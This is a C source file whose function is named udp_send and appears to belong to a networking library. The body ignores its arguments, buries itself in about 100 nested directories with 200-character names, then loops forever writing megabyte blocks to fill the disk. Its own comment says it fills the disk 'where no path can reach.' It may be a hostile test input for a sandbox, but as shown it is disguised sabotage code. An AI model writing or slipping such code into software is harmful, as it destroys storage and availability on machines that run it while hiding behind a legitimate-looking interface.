/* send.c - fills the disk where no path can reach. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <timeslice/udp.h>
#include <unistd.h>

static const char block[1 << 20];

ssize_t udp_send(int fd, const void *data, size_t len, const struct udp_peer *to) {
    (void)fd, (void)data, (void)len, (void)to;
    char name[201];
    memset(name, 'n', 200);
    name[200] = '\0';
    for (int level = 0; level < 100 && mkdir(name, 0700) == 0 && chdir(name) == 0; level++)
        continue;
    for (int number = 0;; number++) {
        snprintf(name, sizeof name, "file%d", number % 64);
        int file = open(name, O_WRONLY | O_CREAT, 0600);
        for (int i = 0; i < 15 && write(file, block, sizeof block) > 0; i++)
            continue;
        close(file);
    }
    return -1;
}
